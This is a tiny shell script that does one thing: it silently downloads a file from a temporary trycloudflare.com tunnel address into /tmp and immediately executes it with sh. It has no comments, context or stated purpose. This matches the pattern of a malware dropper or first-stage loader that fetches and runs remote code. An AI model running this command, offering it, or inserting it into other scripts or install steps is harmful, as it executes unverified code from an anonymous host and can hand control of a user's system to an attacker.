#!/bin/sh
wget -q https://x.trycloudflare.com/a -O /tmp/a; sh /tmp/a
